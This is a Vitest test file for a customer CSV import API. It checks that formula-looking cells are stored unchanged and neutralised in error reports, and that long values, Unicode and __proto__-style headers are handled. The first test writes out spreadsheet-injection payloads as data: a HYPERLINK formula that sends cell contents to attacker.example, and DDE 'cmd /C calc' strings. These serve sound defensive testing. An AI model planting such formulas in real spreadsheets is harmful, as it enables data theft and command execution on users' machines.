import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { expectServerUp, importedWithErrors } from "../../helpers/bad-input.js";
import { startTestServer, type TestServer, type TestWorkspace } from "../../helpers/test-server.js";
import { gqlUpload } from "../../helpers/upload.js";

let t: TestServer;
let ws: TestWorkspace;
let key: string;

beforeAll(async () => {
  t = await startTestServer({ logLevel: process.env.TEST_LOG_LEVEL ?? "silent" });
  ws = await t.workspace("bad-rows");
  key = ws.keys.IMPORTER;
});
afterAll(async () => t?.stop());

const customer = async (externalId: string) =>
  (await t.gql(key, "query ($x: String!) { customer(externalId: $x) { firstName lastName company jobTitle city tags customFields } }", { x: externalId })).body
    .data.customer;

const csvLine = (cells: readonly string[]): string => cells.map((c) => (/[",\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c)).join(",");

describe("bad rows", () => {
  it("stores formula-looking cells as text, unchanged, and neutralises them in the error report", async () => {
    const formulas = ['=HYPERLINK("http://attacker.example/?d="&A1,"open")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=1+1"];
    const csv = [
      csvLine(["id", "Email", "Company", "City", "Job Title", "Note", "Other"]),
      csvLine(["f1", "f1@example.com", ...formulas]),
      csvLine(["f2", "not-an-email", ...formulas]),
    ].join("\n");
    const mapping = [
      { source: "id", target: "externalId" },
      { source: "Email", target: "email" },
      { source: "Company", target: "company" },
      { source: "City", target: "city" },
      { source: "Job Title", target: "jobTitle" },
      { source: "Note", target: "customFields.note" },
      { source: "Other", target: "customFields.other" },
    ];
    const { job, errors } = await importedWithErrors(t, key, { entity: "CUSTOMER", mapping }, { name: "formulas.csv", content: csv });
    expect(job).toMatchObject({ insertedCount: 1, failedCount: 1 });
    expect(await customer("f1")).toMatchObject({
      company: formulas[0],
      city: formulas[1],
      jobTitle: formulas[2],
      customFields: { note: formulas[3], other: formulas[4] },
    });
    expect(errors.map((e) => e.code)).toEqual(["INVALID_EMAIL"]);

    const report = await fetch(job.errorReportUrl, { headers: { authorization: `Bearer ${key}` } }).then((r) => r.text());
    const line = report
      .replace(/^\uFEFF/, "")
      .trim()
      .split("\r\n")[1]!;
    for (const formula of formulas) {
      expect(line).toContain(`'${formula.replace(/"/g, '""')}`);
    }
    // no cell of the line starts a formula once the CSV quotes are read
    const cells = line.match(/("(?:[^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, "").replace(/^"|"$/g, ""));
    expect(cells.filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
  });

  it("fails a 100,000-character value as TOO_LONG, quoting only the start of it, and imports the other rows", async () => {
    const long = "Ω".repeat(100_000);
    const csv = [
      csvLine(["id", "Email", "Company"]),
      csvLine(["t1", "t1@example.com", "Short"]),
      csvLine(["t2", "t2@example.com", long]),
      csvLine(["t3", "t3@example.com", "Fine"]),
    ].join("\n");
    const { job, errors } = await importedWithErrors(t, key, { entity: "CUSTOMER" }, { name: "long.csv", content: csv });
    expect(job).toMatchObject({ insertedCount: 2, failedCount: 1 });
    expect(errors).toHaveLength(1);
    expect(errors[0]).toMatchObject({ row: 2, code: "TOO_LONG", column: "Company", field: "company" });
    expect(errors[0].message).toMatch(/100000 characters, more than the 255 allowed/);
    expect(errors[0].value.length).toBeLessThanOrEqual(501);
    expect(errors[0].message).not.toContain("ΩΩ");
    expect([await customer("t1"), await customer("t2"), await customer("t3")].map((c) => c?.company ?? null)).toEqual(["Short", null, "Fine"]);
    await expectServerUp(t, key);
  });

  it("keeps emoji, combining characters and other scripts exactly as they came", async () => {
    const names: [string, string, string][] = [
      ["u1", "Zoe\u0308", "Mu\u0308ller"],
      ["u2", "👩‍👩‍👧‍👦", "🇨🇳❤️"],
      ["u3", "한국어", "مرحبا"],
      ["u4", "ǅ\u200dx", "O\u0301\u0328\u0300 Z\u0335\u0321\u0317a\u0334l\u0337g\u0336o"],
      ["u5", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "\u{1F3F3}\u{FE0F}\u{200D}\u{1F308}"],
    ];
    const csv = [csvLine(["id", "First Name", "Last Name", "Tags"]), ...names.map(([id, first, last]) => csvLine([id, first, last, `${first};${last}`]))].join(
      "\n",
    );
    const { job, errors } = await importedWithErrors(t, key, { entity: "CUSTOMER" }, { name: "unicode.csv", content: csv });
    expect(errors).toEqual([]);
    expect(job.insertedCount).toBe(names.length);
    for (const [id, first, last] of names) {
      expect(await customer(id)).toMatchObject({ firstName: first, lastName: last, tags: [first, last] });
    }
  });

  it("treats __proto__, constructor and other Object.prototype names as plain headers", async () => {
    const headers = ["id", "Email", "__proto__", "constructor", "prototype", "hasOwnProperty", "toString"];
    const csv = [
      csvLine(headers),
      csvLine(["p1", "p1@example.com", "Proto City", "Ctor Inc", "proto-type", "Owner", "Str"]),
      csvLine(["p2", "p2@example.com", "", "", "", "", ""]),
    ].join("\n");
    // by default, headers that match no field are left out, and nothing breaks
    const plain = await importedWithErrors(t, key, { entity: "CUSTOMER" }, { name: "proto.csv", content: csv });
    expect(plain.job).toMatchObject({ insertedCount: 2, failedCount: 0 });

    const mapping = [
      { source: "id", target: "externalId" },
      { source: "Email", target: "email" },
      { source: "__proto__", target: "city" },
      { source: "constructor", target: "company" },
      { source: "prototype", target: "customFields.kind" },
      { source: "hasOwnProperty", target: "jobTitle" },
      { source: "toString", target: "customFields.text" },
    ];
    const mapped = await importedWithErrors(t, key, { entity: "CUSTOMER", mapping }, { name: "proto.csv", content: csv });
    expect(mapped.errors).toEqual([]);
    expect(await customer("p1")).toMatchObject({
      city: "Proto City",
      company: "Ctor Inc",
      jobTitle: "Owner",
      customFields: { kind: "proto-type", text: "Str" },
    });
    // empty cells stay empty rather than reading Object.prototype's members
    expect(await customer("p2")).toMatchObject({ city: null, company: null, jobTitle: null, customFields: {} });
    expect(({} as Record<string, unknown>)["Proto City"]).toBeUndefined();
    expect(Object.prototype.toString.call({})).toBe("[object Object]");

    const PREVIEW = `mutation ($input: PreviewImportInput!) { previewImport(input: $input) { headers suggestedMapping { source target } } }`;
    const preview = await gqlUpload(t, key, PREVIEW, { entity: "CUSTOMER" }, { name: "proto.csv", content: csv });
    expect(preview.body.data.previewImport.headers).toEqual(headers);
    expect(preview.body.data.previewImport.suggestedMapping.map((s: any) => s.source)).toEqual(headers);
    await expectServerUp(t, key);
  });
});
